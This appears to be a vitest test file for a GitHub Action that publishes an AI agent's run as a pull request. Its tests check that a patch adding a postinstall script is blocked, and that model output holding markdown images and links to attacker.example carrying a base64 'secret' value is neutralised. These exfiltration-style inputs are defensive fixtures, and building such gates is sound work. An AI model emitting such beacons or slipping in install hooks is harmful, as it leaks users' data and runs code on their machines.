// The publish Action (publish/action.yml) under @github/local-action, on a recorded workflow_dispatch
// payload: a real run's output folder is published to a git remote served by `git http-backend` (the
// runner's GITHUB_SERVER_URL points there) and the fake GitHub API. local-action stubs @actions/core and
// prints the outputs; a failed step still exits 0, so the assertions read its output.
// Bypasses the harness on purpose: it checks the publish Action under @github/local-action, the tool a user
// debugs with.
import { execFile, execFileSync, spawn } from "node:child_process";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startFakeGitHub, type FakeGitHub } from "../support/fake-github.js";
import { githubEnv, readOutputs, runnerFiles } from "../support/github-env.js";
import { shownText } from "../support/runner-log.js";
import { addBareRepo, startGitRemote, type GitRemote } from "../support/git-remote.js";
import { patchWriting, realRunFolder, runVariant, type RunFolder } from "../support/publish-fixture.js";

const root = path.resolve(import.meta.dirname, "../..");
const TOKEN = ["ghs", "localPublishToken0123456789abcdefAB"].join("_");
let fake: FakeGitHub;
let remote: GitRemote;
let run: RunFolder;

beforeAll(async () => {
  run = await realRunFolder();
  remote = await startGitRemote({ token: TOKEN });
  addBareRepo(remote, "acme", "widgets", run.workspace);
  fake = await startFakeGitHub({
    token: TOKEN,
    repositories: { "acme/widgets": remote.repoDir("acme", "widgets") },
  });
}, 180_000);
afterAll(async () => {
  await fake?.close();
  await remote?.close();
});

async function checkout(): Promise<string> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "agent-ci-checkout-"));
  const header = `http.${remote.url}/.extraheader=AUTHORIZATION: basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`;
  await promisify(execFile)(
    "git",
    ["-c", header, "clone", "-q", "--depth=1", remote.repoUrl("acme", "widgets"), dir],
    {
      env: { ...process.env, GIT_TERMINAL_PROMPT: "0" },
    },
  );
  return dir;
}

async function localPublish(
  inputs: Record<string, string>,
): Promise<{ stdout: string; outputs: Record<string, string> }> {
  const files = runnerFiles();
  const workspace = await checkout();
  const env: Record<string, string> = {
    ...githubEnv({ fixture: "workflow-dispatch", apiUrl: fake.url, workspace, files }),
    GITHUB_SERVER_URL: remote.url,
    ACTIONS_STEP_DEBUG: "false",
    ...Object.fromEntries(
      Object.entries({ repository_path: workspace, ...inputs }).map(([k, v]) => [
        `INPUT_${k.toUpperCase()}`,
        v,
      ]),
    ),
  };
  const envFile = path.join(files.dir, ".env");
  fs.writeFileSync(
    envFile,
    Object.entries(env)
      .map(([k, v]) => `${k}=${JSON.stringify(v)}`)
      .join("\n") + "\n",
  );
  const child = spawn(
    path.join(root, "node_modules/.bin/local-action"),
    ["run", "publish", "../src/publish/action.ts", envFile],
    {
      cwd: root,
      env: {
        PATH: process.env.PATH,
        HOME: process.env.HOME ?? os.homedir(),
        NODE_PACKAGE_MANAGER: "npm",
        GIT_TERMINAL_PROMPT: "0",
      },
      stdio: ["ignore", "pipe", "pipe"],
    },
  );
  let stdout = "";
  child.stdout.on("data", (c: Buffer) => (stdout += c.toString()));
  child.stderr.on("data", (c: Buffer) => (stdout += c.toString()));
  await new Promise((resolve) => child.on("close", resolve));
  // Outputs as local-action's stub prints them, or as @actions/core writes them to GITHUB_OUTPUT when the stub
  // is not in the way (the file a runner reads).
  const outputs = {
    ...readOutputs(files.output),
    ...Object.fromEntries(
      [...stdout.matchAll(/^::set-output name=([a-z_]+)::(.*)$/gm)].map((m) => [m[1] ?? "", m[2] ?? ""]),
    ),
  };
  return { stdout, outputs };
}

describe("npx local-action run publish ../src/publish/action.ts .env", () => {
  it(
    "publishes the run as a pull request and sets pr_number, pr_url, branch, commit_sha; a re-run is unchanged",
    { timeout: 180_000 },
    async () => {
      const first = await localPublish({ artifact_path: run.outDir, token: TOKEN });
      expect(first.stdout).not.toContain("::error::");
      expect(first.outputs).toMatchObject({
        action: "created",
        branch: expect.stringMatching(/^agent-ci\/run-/),
      });
      expect(first.outputs.commit_sha).toMatch(/^[0-9a-f]{40}$/);
      const pull = fake.pulls.get(Number(first.outputs.pr_number));
      expect(pull?.head.ref).toBe(first.outputs.branch);
      expect(first.outputs.pr_url).toBe(
        `https://github.example/acme/widgets/pull/${first.outputs.pr_number}`,
      );
      // The token only in the mask command the runner reads, never in what the runner shows.
      expect(shownText(first.stdout)).not.toContain(TOKEN);

      const again = await localPublish({ artifact_path: run.outDir, token: TOKEN });
      expect(again.stdout).not.toContain("::error::");
      expect(again.outputs).toEqual({ ...first.outputs, action: "unchanged" });
    },
  );

  it(
    "fails the step with the reason when the patch is refused (over max_patch_bytes)",
    { timeout: 180_000 },
    async () => {
      const result = await localPublish({ artifact_path: run.outDir, token: TOKEN, max_patch_bytes: "10" });
      expect(result.stdout).toMatch(/::error::agent-ci publish: not published:.*over the limit of 10/s);
      expect(result.outputs.pr_number).toBeUndefined();
    },
  );

  const remoteBranches = () =>
    execFileSync("git", ["for-each-ref", "--format=%(refname:short)", "refs/heads"], {
      cwd: remote.repoDir("acme", "widgets"),
      encoding: "utf8",
    });

  it(
    "B7 refuses a patch that adds a postinstall script with nothing pushed; allow_findings lets it through and the pull request says so",
    { timeout: 180_000 },
    async () => {
      const out = runVariant(run.outDir, {
        runId: "action-postinstall",
        patch: patchWriting(run.workspace, {
          "package.json": '{\n  "name": "calc",\n  "scripts": { "postinstall": "node setup.js" }\n}\n',
        }),
      });
      const refs = remoteBranches();
      const writes = fake.writes().length;
      const refused = await localPublish({ artifact_path: out, token: TOKEN });
      expect(refused.stdout).toMatch(
        /::error::agent-ci publish: not published:.*package\.json:3 lifecycle_script.*allow_findings: lifecycle_script/s,
      );
      expect(refused.outputs.pr_number).toBeUndefined();
      expect(remoteBranches()).toBe(refs);
      expect(fake.writes().length).toBe(writes);

      const allowed = await localPublish({
        artifact_path: out,
        token: TOKEN,
        allow_findings: "lifecycle_script",
      });
      expect(allowed.stdout).not.toContain("::error::");
      expect(allowed.outputs.action).toBe("created");
      expect(fake.pulls.get(Number(allowed.outputs.pr_number))?.body).toMatch(
        /Published past the publish gate with `--allow-finding` \(`allow_findings`: lifecycle_script\)[\s\S]*<code>package\.json<\/code> line 3/,
      );

      const unknown = await localPublish({ artifact_path: out, token: TOKEN, allow_findings: "everything" });
      expect(unknown.stdout).toMatch(
        /::error::agent-ci publish: allow_findings: unknown finding kind\(s\) "everything"/,
      );
    },
  );

  it(
    "B6 the model's image, raw HTML and outside link reach the fake GitHub neutralised",
    { timeout: 180_000 },
    async () => {
      const out = runVariant(run.outDir, {
        runId: "action-inert",
        finalText:
          "Fixed add().\n![](https://attacker.example/?d=c2VjcmV0)\n<img src=https://attacker.example/i>\n[more](https://attacker.example/x)\n<!--",
      });
      const before = fake.writes().length;
      const result = await localPublish({ artifact_path: out, token: TOKEN });
      expect(result.stdout).not.toContain("::error::");
      const request = fake
        .writes()
        .slice(before)
        .find((w) => w.method === "POST" && w.path.endsWith("/pulls"));
      const body = (JSON.parse(request?.body ?? "{}") as { body?: string }).body ?? "";
      const afterMarker = body.slice(body.indexOf("\n") + 1);
      expect(afterMarker).toContain("Fixed add().");
      expect(afterMarker).not.toMatch(/!\[\]\(|<img|<!--|\]\(https:\/\/attacker|https:\/\/attacker/);
      expect(afterMarker.replace(/\u200b/g, "")).toContain("https://attacker.example/?d=c2VjcmV0");
    },
  );

  it(
    "push_to_pr_branch and use_commit_signing: GitHub's signed commit on a person's pull request's branch, commit_url set, a comment; a value that is not true or false fails the step",
    { timeout: 180_000 },
    async () => {
      execFileSync("git", ["branch", "person-action", run.base], { cwd: remote.repoDir("acme", "widgets") });
      fake.pulls.set(50, {
        number: 50,
        title: "A person's change",
        body: "Theirs.",
        user: { login: "octocat" },
        head: { ref: "person-action", sha: run.base, repo: "acme/widgets" },
        base: { ref: "main", sha: run.base, repo: "acme/widgets" },
        diff: "",
      });
      const out = runVariant(run.outDir, {
        runId: "action-follow",
        trigger: { event: "issue_comment", target: { number: 50, isPullRequest: true } },
      });
      const result = await localPublish({
        artifact_path: out,
        token: TOKEN,
        push_to_pr_branch: "true",
        use_commit_signing: "true",
      });
      expect(result.stdout).not.toContain("::error::");
      const made = fake.graphql.mutations.at(-1)?.oid ?? "";
      expect(made).toMatch(/^[0-9a-f]{40}$/);
      expect(result.outputs).toMatchObject({
        action: "updated",
        pr_number: "50",
        branch: "person-action",
        commit_sha: made,
        commit_url: `https://github.example/acme/widgets/commit/${made}`,
      });
      expect(
        execFileSync("git", ["rev-list", "--parents", "-n", "1", "refs/heads/person-action"], {
          cwd: remote.repoDir("acme", "widgets"),
          encoding: "utf8",
        }).trim(),
      ).toBe(`${made} ${run.base}`);
      expect(fake.pulls.get(50)?.body).toBe("Theirs.");
      expect(fake.comments.find((c) => c.issue_number === 50)?.body).toContain(
        "so GitHub signed it and shows it as Verified",
      );

      const bad = await localPublish({ artifact_path: out, token: TOKEN, use_commit_signing: "yes" });
      expect(bad.stdout).toMatch(
        /::error::agent-ci publish: use_commit_signing: use true or false \(got "yes"\)/,
      );
    },
  );
});
